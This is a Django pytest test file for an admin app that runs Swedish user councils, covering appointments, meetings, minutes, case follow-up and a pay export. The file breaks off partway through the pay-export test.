"""Councils in Django admin: a secretary's journeys (a council with its terms of reference,
an appointment from request to membership, a meeting from notice to approved minutes, a case
across two meetings), personal data, pay export, import/export and query counts."""

import csv
import io
import json
import zipfile
from datetime import timedelta
from decimal import Decimal

import pytest
from django.contrib import admin
from django.contrib.messages import get_messages
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone, translation
from import_export.forms import SelectableFieldsExportForm

from brukarkraft.models import Organisation, User
from brukarkraft.roles import Role, sync_role_groups
from brukarkraft.tests.admin_forms import page_data
from brukarkraft.tests.factories import OrganisationFactory, UserFactory
from councils import selectors, services
from councils.models import (
    NOMINATION_CRITERIA,
    AgendaItem,
    AnnualReport,
    AppointmentRequest,
    Assessment,
    AssessmentAnswer,
    Attendance,
    Case,
    Council,
    Document,
    Gender,
    MandateVersion,
    Meeting,
    Member,
    Nomination,
    Seat,
    UserCategory,
)
from councils.tests.factories import (
    AppointmentRequestFactory,
    CaseFactory,
    CouncilFactory,
    MandateVersionFactory,
    MeetingFactory,
    MemberFactory,
    SeatFactory,
)

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _admin_in_english():
    # The admin is read in English here (/en/admin/): the assertions quote the English text.
    translation.activate("en")
    yield
    translation.activate("sv")


TODAY = timezone.localdate


def url(model, view: str, *args) -> str:
    return reverse(f"admin:councils_{model._meta.model_name}_{view}", args=args)


def texts(response) -> list[str]:
    return [str(message) for message in get_messages(response.wsgi_request)]


@pytest.fixture
def owner(db):
    return OrganisationFactory(name="Örebro kommun", kind=Organisation.Kind.MUNICIPALITY)


@pytest.fixture
def rsmh(db):
    return OrganisationFactory(name="RSMH Örebro", kind=Organisation.Kind.USER_ORGANISATION)


@pytest.fixture
def council(owner, rsmh):
    """A council of four: one woman and three men; one term ends within 90 days."""
    council = CouncilFactory(
        name="Brukarrådet psykiatri",
        slug="brukarradet-psykiatri",
        owner=owner,
        meeting_fee=Decimal("500.00"),
        lost_earnings_max=Decimal("800.00"),
    )
    MandateVersionFactory(council=council, number=1)
    SeatFactory(council=council, organisation=rsmh, category=UserCategory.MENTAL_HEALTH, places=2)
    SeatFactory(council=council, organisation=None, category=UserCategory.RELATIVES, places=1)
    MemberFactory(council=council, gender=Gender.WOMAN, user__full_name="Anna Andersson")
    MemberFactory(council=council, gender=Gender.MAN, user__full_name="Bo Berg")
    MemberFactory(council=council, gender=Gender.MAN, user__full_name="Carl Ceder")
    MemberFactory(
        council=council,
        gender=Gender.MAN,
        user__full_name="David Dal",
        role=Member.Role.DEPUTY,
        term_end=TODAY() + timedelta(days=30),
    )
    return council


# --- Every page opens ----------------------------------------------------------------


def test_every_councils_model_is_in_admin():
    from django.apps import apps
    from simple_history.models import HistoricalChanges

    # Change history is read on each row's own admin page ("History"), not as a model.
    models = {
        m
        for m in apps.get_app_config("councils").get_models()
        if not issubclass(m, HistoricalChanges)
    }
    assert models <= set(admin.site._registry)


@pytest.fixture
def everything(council, admin_user, rsmh):
    """One row of every councils model."""
    meeting = MeetingFactory(council=council, starts_at=timezone.now() - timedelta(days=2))
    case = CaseFactory(council=council, number=1)
    document = Document.objects.create(
        council=council, title="Handlingar", file=SimpleUploadedFile("a.pdf", b"%PDF-1.4")
    )
    AgendaItem.objects.create(
        meeting=meeting, position=1, title="Sak", case=case, document=document
    )
    member = council.members.first()
    Attendance.objects.create(meeting=meeting, member=member, status=Attendance.Status.PRESENT)
    request = AppointmentRequestFactory(council=council)
    services.request_call(request=request, organisations=[rsmh])
    nominate(request, rsmh)
    assessment = Assessment.objects.create(
        council=council, held_on=TODAY(), rapporteur="Anna", secretary="Bo"
    )
    AssessmentAnswer.objects.create(assessment=assessment, level=1, stage="openings", answer="yes")
    AnnualReport.objects.create(council=council, year=TODAY().year - 1)
    return council


ADMIN_MODELS = [
    Council,
    MandateVersion,
    Seat,
    Member,
    AppointmentRequest,
    Nomination,
    Meeting,
    AgendaItem,
    Attendance,
    Case,
    Document,
    Assessment,
    AssessmentAnswer,
    AnnualReport,
]


@pytest.mark.parametrize("model", ADMIN_MODELS, ids=lambda model: model.__name__)
def test_each_changelist_and_change_page_opens(client, admin_user, everything, model):
    if model not in admin.site._registry:
        pytest.skip("edited on the council's page")
    client.force_login(admin_user)
    instance = model.objects.order_by("pk").first()

    listed = client.get(url(model, "changelist"))
    searched = client.get(url(model, "changelist"), {"q": "a"})
    changed = client.get(url(model, "change", instance.pk))

    assert listed.status_code == 200
    assert listed.context["cl"].result_count >= 1
    assert searched.status_code == 200
    assert changed.status_code == 200


@pytest.mark.parametrize(
    "model",
    [
        Council,
        Member,
        AppointmentRequest,
        Nomination,
        Meeting,
        Case,
        Document,
        Assessment,
        AnnualReport,
    ],
)
def test_each_add_page_opens(client, admin_user, model):
    client.force_login(admin_user)

    assert client.get(url(model, "add")).status_code == 200


def test_a_self_assessment_is_made_on_the_portals_form_not_row_by_row(client, admin_user, council):
    client.force_login(admin_user)

    page = client.get(url(Assessment, "add")).content.decode()

    # The add page links each council's own form instead of 15 inline rows.
    assert reverse("councils:assessment_new", args=[council.slug]) in page
    assert "answers-TOTAL_FORMS" not in page
    assessment = Assessment.objects.create(
        council=council, held_on=TODAY(), rapporteur="Anna", secretary="Bo"
    )
    AssessmentAnswer.objects.create(assessment=assessment, level=1, stage="openings", answer="yes")
    change = client.get(url(Assessment, "change", assessment.pk)).content.decode()
    assert reverse("councils:assessment_detail", args=[council.slug, assessment.pk]) in change
    # The answers are shown, not edited or added one by one.
    assert 'name="answers-0-answer"' not in change
    assert 'id="answers-empty"' not in change


def test_staff_with_admin_access_can_run_councils(client, council):
    sync_role_groups()
    sara = UserFactory(roles=[Role.STAFF], is_staff=True)
    client.force_login(sara)

    assert client.get(url(Council, "changelist")).status_code == 200
    assert client.get(url(Council, "change", council.pk)).status_code == 200
    assert client.get(url(Meeting, "add")).status_code == 200
    # Staff do not delete councils: the history of a council is kept.
    assert client.get(url(Council, "delete", council.pk)).status_code == 403


def test_an_outsider_is_sent_to_the_admin_login(client, outsider, council):
    client.force_login(outsider)

    response = client.get(url(Council, "change", council.pk))

    assert response.status_code == 302
    assert "login" in response.url


def test_change_pages_offer_the_next_steps_as_buttons(client, admin_user, council, rsmh):
    client.force_login(admin_user)
    request = AppointmentRequestFactory(council=council)
    services.request_call(request=request, organisations=[rsmh])
    nomination = nominate(request, rsmh)
    meeting = MeetingFactory(council=council)

    nomination_page = client.get(url(Nomination, "change", nomination.pk)).content.decode()
    meeting_page = client.get(url(Meeting, "change", meeting.pk)).content.decode()
    request_page = client.get(url(AppointmentRequest, "change", request.pk)).content.decode()

    assert reverse("admin:councils_nomination_recommend", args=[nomination.pk]) in nomination_page
    assert reverse("admin:councils_nomination_decline", args=[nomination.pk]) in nomination_page
    # Appointing comes after the recommendation.
    assert reverse("admin:councils_nomination_appoint", args=[nomination.pk]) not in nomination_page
    assert reverse("admin:councils_meeting_notice", args=[meeting.pk]) in meeting_page
    assert reverse("admin:councils_meeting_approve", args=[meeting.pk]) in meeting_page
    assert reverse("admin:councils_appointmentrequest_call", args=[request.pk]) in request_page


def test_a_service_page_of_a_missing_object_is_404(client, admin_user):
    client.force_login(admin_user)

    assert client.get(reverse("admin:councils_nomination_appoint", args=[999])).status_code == 404
    assert client.get(reverse("admin:councils_meeting_notice", args=[999])).status_code == 404


# --- Council, terms of reference and members ---------------------------------------------


def test_a_council_is_created_with_its_terms_of_reference(client, admin_user, owner):
    client.force_login(admin_user)
    page = client.get(url(Council, "add"))
    adopted = TODAY()
    data = page_data(
        page,
        inlines={
            "mandates": {
                "change": {},
                "new": [],
            }
        },
        name="Brukarrådet Örebro",
        slug="brukarradet-orebro",
        owner=owner,
        level=Council.Level.MUNICIPAL,
        meeting_fee="400",
        lost_earnings_max="1000",
    )
    # The add page offers one empty version of the terms of reference.
    data["mandates-0-text"] = "Rådet ger kommunen råd. Det behandlar inte enskilda ärenden."
    data["mandates-0-adopted_on"] = adopted.isoformat()
    data["mandates-0-revision_due"] = (adopted + timedelta(days=3 * 365)).isoformat()
    data["mandates-TOTAL_FORMS"] = "1"

    response = client.post(url(Council, "add"), data)

    assert response.status_code == 302, response.context and response.context["errors"]
    council = Council.objects.get(slug="brukarradet-orebro")
    version = council.mandates.get()
    assert version.number == 1
    assert version.created_by == admin_user
    assert version.text.startswith("Rådet ger kommunen råd")


def test_a_new_version_of_the_terms_keeps_the_old_one(client, admin_user, council):
    client.force_login(admin_user)
    old = council.mandates.get()
    page = client.get(url(Council, "change", council.pk))
    data = page_data(
        page,
        inlines={
            "mandates": {
                "new": [
                    {
                        "text": "Reviderat mandat.",
                        "adopted_on": TODAY(),
                        "revision_due": TODAY() + timedelta(days=700),
                    }
                ]
            }
        },
    )

    response = client.post(url(Council, "change", council.pk), data)

    assert response.status_code == 302
    assert list(council.mandates.order_by("number").values_list("number", "text")) == [
        (1, old.text),
        (2, "Reviderat mandat."),
    ]


def test_terms_of_reference_with_the_revision_before_the_adoption_are_refused(
    client, admin_user, council
):
    client.force_login(admin_user)
    page = client.get(url(Council, "change", council.pk))
    data = page_data(
        page,
        inlines={
            "mandates": {
                "new": [
                    {
                        "text": "Fel datum.",
                        "adopted_on": TODAY(),
                        "revision_due": TODAY() - timedelta(days=1),
                    }
                ]
            }
        },
    )

    response = client.post(url(Council, "change", council.pk), data)

    assert response.status_code == 200
    assert "The revision date must come after the adoption." in response.content.decode()
    assert council.mandates.count() == 1


def test_a_saved_version_of_the_terms_cannot_be_edited(client, admin_user, council):
    client.force_login(admin_user)

    response = client.get(url(Council, "change", council.pk))

    mandates = next(
        f for f in response.context["inline_admin_formsets"] if f.formset.prefix == "mandates"
    )
    assert mandates.has_change_permission is False
    assert 'name="mandates-0-text"' not in response.content.decode()


def test_the_council_page_summarises_balance_categories_and_warnings(client, admin_user, council):
    client.force_login(admin_user)
    long_server = council.members.get(display_name="Bo Berg")
    # Bo has served two earlier terms: over the council's cap of six years.
    for years in (7, 4):
        Member.objects.create(
            council=council,
            user=long_server.user,
            display_name="Bo Berg",
            term_start=TODAY() - timedelta(days=365 * years),
            term_end=TODAY() - timedelta(days=365 * (years - 3) + 200),
        )

    html = client.get(url(Council, "change", council.pk)).content.decode()

    assert "needs 2 women and 2 men, has 1 woman and 3 men — 1 more woman needed" in html
    assert "The term of David Dal ends on" in html
    assert "Bo Berg will have served more than 6 years in total." in html
    assert "Mental health" in html
    assert "Relatives" in html
    assert "Advisory only" in html
    assert 'name="advisory_only"' not in html


def test_the_council_list_shows_the_numbers_and_a_due_revision(client, admin_user, council):
    client.force_login(admin_user)
    MandateVersionFactory(council=council, number=2, revision_due=TODAY() - timedelta(days=1))
    CaseFactory(council=council, number=1)
    MeetingFactory(council=council)

    response = client.get(url(Council, "changelist"))

    row = response.context["cl"].result_list[0]
    assert row.members_now_count == 4
    assert row.open_case_count == 1
    assert row.next_meeting_at is not None
    assert "Warning: revision due" in response.content.decode()


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"level__exact": "municipal"}, 1),
        ({"owner__kind__exact": "region"}, 0),
        ({"is_active__exact": "1"}, 1),
    ],
)
def test_the_council_list_filters(client, admin_user, council, params, expected):
    client.force_login(admin_user)

    response = client.get(url(Council, "changelist"), params)

    assert response.status_code == 200
    assert response.context["cl"].result_count == expected


def test_a_member_is_added_on_the_council_page(client, admin_user, council, rsmh):
    client.force_login(admin_user)
    person = UserFactory(full_name="Eva Ek")
    seat = council.seats.get(organisation=rsmh)
    page = client.get(url(Council, "change", council.pk))
    data = page_data(
        page,
        inlines={
            "members-2": {
                "new": [
                    {
                        "user": person,
                        "role": Member.Role.MEMBER,
                        "seat": seat,
                        "gender": Gender.WOMAN,
                        "term_start": TODAY(),
                        "term_end": TODAY() + timedelta(days=730),
                        "publish_consent": True,
                    }
                ]
            }
        },
    )

    response = client.post(url(Council, "change", council.pk), data)

    assert response.status_code == 302
    member = council.members.get(user=person)
    assert member.display_name == "Eva Ek"
    assert member.organisation == rsmh
    assert member.category == UserCategory.MENTAL_HEALTH


def test_an_overlapping_term_for_one_person_is_refused_and_nothing_is_saved(
    client, admin_user, council
):
    client.force_login(admin_user)
    anna = council.members.get(display_name="Anna Andersson")
    page = client.get(url(Council, "change", council.pk))
    before = list(council.members.values_list("pk", "term_end"))
    data = page_data(
        page,
        inlines={
            "members": {"change": {0: {"publish_consent": False}}},
            "members-2": {
                "new": [
                    {
                        "user": anna.user,
                        "role": Member.Role.MEMBER,
                        "term_start": TODAY(),
                        "term_end": TODAY() + timedelta(days=365),
                    }
                ]
            },
        },
    )

    response = client.post(url(Council, "change", council.pk), data)

    assert response.status_code == 200
    assert "This person already has a term on the council in this period." in (
        response.content.decode()
    )
    assert list(council.members.values_list("pk", "term_end")) == before
    assert council.members.filter(publish_consent=False).count() == 0


def test_a_full_seat_is_refused_on_the_council_page(client, admin_user, council):
    client.force_login(admin_user)
    seat = council.seats.get(category=UserCategory.RELATIVES)
    MemberFactory(council=council, seat=seat)
    page = client.get(url(Council, "change", council.pk))
    data = page_data(
        page,
        inlines={
            "members-2": {
                "new": [
                    {
                        "user": UserFactory(),
                        "role": Member.Role.MEMBER,
                        "seat": seat,
                        "term_start": TODAY(),
                        "term_end": TODAY() + timedelta(days=365),
                    }
                ]
            }
        },
    )
    before = council.members.count()

    response = client.post(url(Council, "change", council.pk), data)

    assert response.status_code == 200
    assert "The seat is already filled for this period" in response.content.decode()
    assert council.members.count() == before


# --- Appointment: request → call → nomination → recommendation → appointment ----------------


CRITERIA = {name: f"Svar om {name}." for name in NOMINATION_CRITERIA}


def nominate(request, organisation, **extra) -> Nomination:
    return services.nomination_create(
        request=request,
        by=None,
        candidate=extra.pop("candidate", None) or UserFactory(full_name="Karin Kandidat"),
        organisation=organisation,
        motivation="Lång erfarenhet av brukarrörelsen.",
        criteria=CRITERIA,
        organisation_confirms_trust=True,
        category=extra.pop("category", UserCategory.MENTAL_HEALTH),
        gender=extra.pop("gender", Gender.WOMAN),
    )


def test_an_appointment_runs_from_request_to_membership(client, admin_user, council, rsmh):
    client.force_login(admin_user)

    # The owner's request.
    response = client.post(
        url(AppointmentRequest, "add"),
        {
            "council": council.pk,
            "places": "1",
            "categories": [UserCategory.MENTAL_HEALTH],
            "description": "En representant med egen erfarenhet.",
            "deadline": (TODAY() + timedelta(days=20)).isoformat(),
        },
    )
    assert response.status_code == 302
    request = AppointmentRequest.objects.get(council=council)
    assert request.requested_by == admin_user

    # The call to user organisations.
    response = client.post(
        reverse("admin:councils_appointmentrequest_call", args=[request.pk]),
        {"organisations": [rsmh.pk]},
    )
    assert response.status_code == 302
    request.refresh_from_db()
    assert request.status == AppointmentRequest.Status.CALLED
    assert list(request.called_organisations.all()) == [rsmh]

    # The nomination, through services.nomination_create.
    candidate = UserFactory(full_name="Karin Kandidat")
    response = client.post(
        url(Nomination, "add"),
        {
            "request": request.pk,
            "candidate": candidate.pk,
            "organisation": rsmh.pk,
            "category": UserCategory.MENTAL_HEALTH,
            "gender": Gender.WOMAN,
            "motivation": "Lång erfarenhet.",
            **CRITERIA,
            "organisation_confirms_trust": "on",
        },
    )
    assert response.status_code == 302
    nomination = Nomination.objects.get(request=request)
    assert nomination.nominated_by == admin_user

    # Appointing before the recommendation is refused.
    appoint_url = reverse("admin:councils_nomination_appoint", args=[nomination.pk])
    terms = {"role": Member.Role.MEMBER, "term_start": TODAY().isoformat(), "term_end": ""}
    refused = client.post(appoint_url, terms)
    assert refused.status_code == 200
    assert "Only a nominated and recommended candidate can be appointed." in texts(refused)
    assert not council.members.filter(user=candidate).exists()

    # The recommendation.
    response = client.post(reverse("admin:councils_nomination_recommend", args=[nomination.pk]))
    assert response.status_code == 302
    nomination.refresh_from_db()
    assert nomination.status == Nomination.Status.RECOMMENDED
    assert nomination.recommended_by == admin_user

    # The appointment page shows the balance and categories now and after.
    page = client.get(appoint_url).content.decode()
    assert "needs 2 women and 2 men, has 1 woman and 3 men — 1 more woman needed" in page
    assert "needs 2 women and 2 men, has 2 women and 3 men — the rule is met" in page
    assert "Svar om capacity." in page
    assert "Mental health" in page

    response = client.post(appoint_url, terms)
    assert response.status_code == 302
    nomination.refresh_from_db()
    member = nomination.member
    assert nomination.status == Nomination.Status.APPOINTED
    assert nomination.decided_by == admin_user
    assert member.council == council
    assert member.term_start == TODAY()
    assert member.term_end == TODAY().replace(year=TODAY().year + council.term_years)
    assert member.organisation == rsmh

    # The request's page shows each step, read-only.
    html = client.get(url(AppointmentRequest, "change", request.pk)).content.decode()
    assert "Karin Kandidat" in html
    assert 'name="nominations-0-status"' not in html


def test_an_appointment_against_a_required_gender_balance_needs_a_recorded_reason(
    client, admin_user, council, rsmh
):
    # One woman and three men; the council's rules require balance, and the candidate is a man.
    council.requires_gender_balance = True
    council.save(update_fields=["requires_gender_balance"])
    request = AppointmentRequestFactory(council=council)
    services.request_call(request=request, organisations=[rsmh])
    nomination = nominate(request, rsmh, gender=Gender.MAN)
    services.nomination_recommend(nomination=nomination, by=admin_user)
    client.force_login(admin_user)
    appoint_url = reverse("admin:councils_nomination_appoint", args=[nomination.pk])
    terms = {"role": Member.Role.MEMBER, "term_start": TODAY().isoformat(), "term_end": ""}

    page = client.get(appoint_url).content.decode()
    assert "give the reason for the exception below" in page
    assert 'name="balance_exception"' in page

    refused = client.post(appoint_url, terms)
    assert refused.status_code == 200
    assert "Give the reason for the exception." in refused.content.decode()
    assert not council.members.filter(user=nomination.candidate).exists()

    reason = "Ingen kvinna nominerades; utlysningen görs om nästa år."
    response = client.post(appoint_url, {**terms, "balance_exception": reason})
    assert response.status_code == 302
    nomination.refresh_from_db()
    assert nomination.status == Nomination.Status.APPOINTED
    assert nomination.balance_exception == reason
    assert selectors.annual_figures(council, TODAY().year)["balance_exceptions"] == 1


def test_a_nomination_from_an_organisation_not_called_is_refused(client, admin_user, council, rsmh):
    client.force_login(admin_user)
    request = AppointmentRequestFactory(council=council)
    services.request_call(request=request, organisations=[rsmh])
    other = OrganisationFactory(kind=Organisation.Kind.USER_ORGANISATION)

    response = client.post(
        url(Nomination, "add"),
        {
            "request": request.pk,
            "candidate": UserFactory().pk,
            "organisation": other.pk,
            "motivation": "Bra.",
            **CRITERIA,
            "organisation_confirms_trust": "on",
        },
    )

    assert response.status_code == 200
    assert "This organisation was not called." in response.content.decode()
    assert not Nomination.objects.exists()


def test_declining_needs_a_reason(client, admin_user, council, rsmh):
    client.force_login(admin_user)
    request = AppointmentRequestFactory(council=council)
    services.request_call(request=request, organisations=[rsmh])
    nomination = nominate(request, rsmh)
    decline = reverse("admin:councils_nomination_decline", args=[nomination.pk])

    empty = client.post(decline, {"reason": ""})
    done = client.post(decline, {"reason": "Platsen är redan tillsatt."})

    assert empty.status_code == 200
    nomination.refresh_from_db()
    assert nomination.status == Nomination.Status.DECLINED
    assert nomination.reason == "Platsen är redan tillsatt."
    assert done.status_code == 302
    # A decided nomination cannot be withdrawn afterwards.
    again = client.post(
        reverse("admin:councils_nomination_withdraw", args=[nomination.pk]), {"reason": "x"}
    )
    assert "This nomination is already decided." in texts(again)


def test_nominations_can_be_filtered_by_status_and_council(client, admin_user, council, rsmh):
    client.force_login(admin_user)
    request = AppointmentRequestFactory(council=council)
    services.request_call(request=request, organisations=[rsmh])
    nominate(request, rsmh)

    by_status = client.get(url(Nomination, "changelist"), {"status__exact": "nominated"})
    by_council = client.get(
        url(Nomination, "changelist"), {"request__council__id__exact": council.pk}
    )

    assert by_status.context["cl"].result_count == 1
    assert by_council.context["cl"].result_count == 1


# --- Meetings: notice, agenda, attendance, minutes; a case across two meetings ----------


@pytest.fixture
def fake_pdf(monkeypatch):
    import councils.pdf

    monkeypatch.setattr(councils.pdf, "minutes_pdf", lambda meeting: b"%PDF-1.7 minutes")


def test_a_meeting_is_held_from_notice_to_approved_minutes(
    client, admin_user, council, fake_pdf, django_capture_on_commit_callbacks
):
    client.force_login(admin_user)
    case = services.case_submit(
        council=council,
        by=None,
        title="Färdtjänsten kommer för sent",
        why="Missade tider.",
        where="Hela kommunen.",
        when="Varje vecka.",
        proposed_solution="En kontaktperson.",
    )
    starts = timezone.localtime() + timedelta(days=10)

    # The meeting is registered in admin.
    response = client.post(
        url(Meeting, "add"),
        {
            "council": council.pk,
            "starts_at_0": starts.date().isoformat(),
            "starts_at_1": "18:00:00",
            "ends_at_0": "",
            "ends_at_1": "",
            "place": "Stadshuset, sal 3",
            "accessibility": "Hörslinga.",
        },
    )
    assert response.status_code == 302
    meeting = Meeting.objects.get(council=council)

    # The case goes on the agenda.
    page = client.get(url(Meeting, "change", meeting.pk))
    data = page_data(page, inlines={"agenda": {"new": [{"title": "", "case": case}]}})
    assert client.post(url(Meeting, "change", meeting.pk), data).status_code == 302
    case.refresh_from_db()
    assert case.status == Case.Status.ON_AGENDA
    assert meeting.agenda.get().title == case.title

    # The notice goes out under 3 weeks ahead: sent, with a warning.
    with django_capture_on_commit_callbacks(execute=True):
        sent = client.post(reverse("admin:councils_meeting_notice", args=[meeting.pk]))
    assert sent.status_code == 302
    assert any("less than 3 weeks" in text for text in texts(sent))
    meeting.refresh_from_db()
    assert meeting.notice_sent_by == admin_user

    # Time passes: the meeting has been held.
    Meeting.objects.filter(pk=meeting.pk).update(starts_at=timezone.now() - timedelta(hours=3))
    late = client.post(reverse("admin:councils_meeting_notice", args=[meeting.pk]))
    assert "The meeting has already started: a notice can no longer be sent." in texts(late)

    # Attendance, the decision on the case and the minutes.
    anna = council.members.get(display_name="Anna Andersson")
    bo = council.members.get(display_name="Bo Berg")
    david = council.members.get(display_name="David Dal")
    page = client.get(url(Meeting, "change", meeting.pk))
    data = page_data(
        page,
        inlines={
            "agenda": {
                "change": {
                    0: {
                        "decision": "Rådet föreslår en kontaktperson.",
                        "follow_up": "Svar till nästa möte.",
                        "case_status": Case.Status.FOLLOW_UP,
                    }
                }
            },
            "attendance": {
                "new": [
                    {
                        "member": anna,
                        "status": "present",
                        "travel_cost": "120",
                        "lost_earnings": "0",
                    },
                    {
                        "member": bo,
                        "status": "deputy",
                        "deputy": david,
                        "travel_cost": "0",
                        "lost_earnings": "0",
                    },
                ]
            },
        },
        minutes="Närvarande: Anna Andersson och David Dal. Anna Andersson tog upp färdtjänsten.",
    )
    response = client.post(url(Meeting, "change", meeting.pk), data)
    assert response.status_code == 302, texts(response)
    case.refresh_from_db()
    meeting.refresh_from_db()
    assert case.status == Case.Status.FOLLOW_UP
    assert meeting.minutes_status == Meeting.MinutesStatus.DRAFT
    assert meeting.attendance.count() == 2
    assert meeting.attendance.get(member=bo).deputy == david

    # The minutes are approved; the PDF is made by the worker.
    approve = reverse("admin:councils_meeting_approve", args=[meeting.pk])
    with django_capture_on_commit_callbacks(execute=True):
        approved = client.post(approve)
    assert approved.status_code == 302
    meeting.refresh_from_db()
    assert meeting.minutes_status == Meeting.MinutesStatus.APPROVED
    assert meeting.minutes_pdf_status == Meeting.PdfStatus.READY
    assert meeting.minutes_pdf.read().startswith(b"%PDF-")

    twice = client.post(approve)
    assert "These minutes are already approved." in texts(twice)

    # Locked: the minutes, agenda and attendance are read-only.
    locked = client.get(url(Meeting, "change", meeting.pk))
    html = locked.content.decode()
    assert 'name="minutes"' not in html
    for inline in locked.context["inline_admin_formsets"]:
        assert inline.has_change_permission is False
        assert inline.has_add_permission is False
    assert "Open the minutes (PDF)" in html


def test_a_case_is_followed_across_two_meetings_to_closed(client, admin_user, council):
    client.force_login(admin_user)
    case = CaseFactory(council=council, number=1)
    held = timezone.now() - timedelta(days=60)
    first = MeetingFactory(council=council, starts_at=held)
    second = MeetingFactory(council=council, starts_at=held + timedelta(days=50))

    for meeting, status, decision in [
        (first, Case.Status.FOLLOW_UP, "Förvaltningen utreder."),
        (second, Case.Status.CLOSED, "Kontaktperson inrättad; ärendet avslutas."),
    ]:
        page = client.get(url(Meeting, "change", meeting.pk))
        data = page_data(page, inlines={"agenda": {"new": [{"title": "", "case": case}]}})
        assert client.post(url(Meeting, "change", meeting.pk), data).status_code == 302
        page = client.get(url(Meeting, "change", meeting.pk))
        data = page_data(
            page,
            inlines={"agenda": {"change": {0: {"decision": decision, "case_status": status}}}},
        )
        assert client.post(url(Meeting, "change", meeting.pk), data).status_code == 302
        case.refresh_from_db()
        assert case.status == status

    assert case.closed_at is not None
    html = client.get(url(Case, "change", case.pk)).content.decode()
    assert "Förvaltningen utreder." in html
    assert "Kontaktperson inrättad" in html
    # A closed case cannot go on a third agenda.
    third = MeetingFactory(council=council)
    page = client.get(url(Meeting, "change", third.pk))
    data = page_data(page, inlines={"agenda": {"new": [{"title": "", "case": case}]}})
    refused = client.post(url(Meeting, "change", third.pk), data)
    assert refused.status_code == 200
    assert not third.agenda.exists()


def test_a_case_status_without_a_decision_is_refused(client, admin_user, council):
    client.force_login(admin_user)
    case = CaseFactory(council=council, number=1)
    meeting = MeetingFactory(council=council, starts_at=timezone.now() - timedelta(days=1))
    services.agenda_add(meeting=meeting, title="", case=case)
    page = client.get(url(Meeting, "change", meeting.pk))
    data = page_data(page, inlines={"agenda": {"change": {0: {"case_status": "closed"}}}})

    response = client.post(url(Meeting, "change", meeting.pk), data)

    assert response.status_code == 200
    case.refresh_from_db()
    assert case.status == Case.Status.ON_AGENDA


def test_attendance_starts_with_a_row_per_member_to_tick(client, admin_user, council):
    client.force_login(admin_user)
    meeting = MeetingFactory(council=council, starts_at=timezone.now() - timedelta(hours=2))
    page = client.get(url(Meeting, "change", meeting.pk))

    (formset,) = [
        inline.formset
        for inline in page.context["inline_admin_formsets"]
        if inline.formset.prefix == "attendance"
    ]
    rows = formset.extra_forms
    # The members serving that day, the deputy not among them (a deputy attends in a
    # member's place, chosen in the row of that member); the status is left to tick.
    assert [form["member"].value() for form in rows] == [
        council.members.get(display_name=name).pk
        for name in ("Anna Andersson", "Bo Berg", "Carl Ceder")
    ]
    assert all(not form["status"].value() for form in rows)

    data = page_data(page)
    data["attendance-TOTAL_FORMS"] = str(len(formset.initial_forms) + len(rows))
    ticks = ["present", "deputy", ""]  # Carl's row is left as it was: nothing is saved for it
    david = council.members.get(display_name="David Dal")
    for form, status in zip(rows, ticks, strict=True):
        data[form.add_prefix("member")] = str(form["member"].value())
        data[form.add_prefix("status")] = status
        data[form.add_prefix("deputy")] = str(david.pk) if status == "deputy" else ""
        data[form.add_prefix("travel_cost")] = "0"
        data[form.add_prefix("lost_earnings")] = "0"

    response = client.post(url(Meeting, "change", meeting.pk), data)

    assert response.status_code == 302, texts(response)
    assert dict(meeting.attendance.values_list("member__display_name", "status")) == {
        "Anna Andersson": "present",
        "Bo Berg": "deputy",
    }
    # Carl is still to tick; the others are rows of their own now.
    page = client.get(url(Meeting, "change", meeting.pk))
    (formset,) = [
        inline.formset
        for inline in page.context["inline_admin_formsets"]
        if inline.formset.prefix == "attendance"
    ]
    assert len(formset.initial_forms) == 2
    assert [form["member"].value() for form in formset.extra_forms] == [
        council.members.get(display_name="Carl Ceder").pk
    ]


def test_a_meeting_not_yet_held_has_no_attendance_rows_to_tick(client, admin_user, council):
    client.force_login(admin_user)
    meeting = MeetingFactory(council=council)

    page = client.get(url(Meeting, "change", meeting.pk))

    (formset,) = [
        inline.formset
        for inline in page.context["inline_admin_formsets"]
        if inline.formset.prefix == "attendance"
    ]
    assert formset.extra_forms == []


def test_attendance_for_a_meeting_not_yet_held_is_refused(client, admin_user, council):
    client.force_login(admin_user)
    meeting = MeetingFactory(council=council)
    page = client.get(url(Meeting, "change", meeting.pk))
    data = page_data(
        page,
        inlines={"attendance": {"new": [{"member": council.members.first(), "status": "present"}]}},
    )

    response = client.post(url(Meeting, "change", meeting.pk), data)

    assert response.status_code == 200
    assert "Attendance is recorded once the meeting has begun." in response.content.decode()
    assert not meeting.attendance.exists()


def test_a_notice_without_an_agenda_is_refused(client, admin_user, council):
    client.force_login(admin_user)
    meeting = MeetingFactory(council=council, starts_at=timezone.now() + timedelta(days=40))

    response = client.post(reverse("admin:councils_meeting_notice", args=[meeting.pk]))

    assert response.status_code == 200
    meeting.refresh_from_db()
    assert meeting.notice_sent_at is None


def test_a_notice_in_good_time_gives_no_warning(client, admin_user, council):
    client.force_login(admin_user)
    meeting = MeetingFactory(council=council, starts_at=timezone.now() + timedelta(days=40))
    services.agenda_add(meeting=meeting, title="Mandatet")

    response = client.post(reverse("admin:councils_meeting_notice", args=[meeting.pk]))

    assert response.status_code == 302
    assert not any("less than 3 weeks" in text for text in texts(response))


# --- Pay export ----------------------------------------------------------------------------


def pay_lines(response) -> list[list[str]]:
    assert response.content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def test_the_pay_export_pays_whoever_attended(client, admin_user, council):
    client.force_login(admin_user)
    meeting = MeetingFactory(council=council, starts_at=timezone.now() - timedelta(days=1))
    anna, bo, carl = (
        council.members.get(display_name=n) for n in ("Anna Andersson", "Bo Berg", "Carl Ceder")
    )
    david = council.members.get(display_name="David Dal")
    services.attendance_record(
        meeting=meeting,
        rows=[
            {
                "member": anna,
                "status": "present",
                "travel_cost": Decimal("120"),
                "lost_earnings": Decimal("1200"),
            },
            {"member": bo, "status": "deputy", "deputy": david, "travel_cost": Decimal("50")},
            {"member": carl, "status": "absent", "travel_cost": Decimal("99")},
        ],
    )

    with translation.override("sv"):
        response = client.post(
            url(Meeting, "changelist"), {"action": "export_pay", "_selected_action": [meeting.pk]}
        )

    header, *rows = pay_lines(response)
    assert len(header) == 8
    by_name = {row[2]: row for row in rows}
    # Anna: fee 500 + travel 120 + lost earnings capped at 800.
    # Admin speaks Swedish here: a decimal comma, as Excel expects with semicolons.
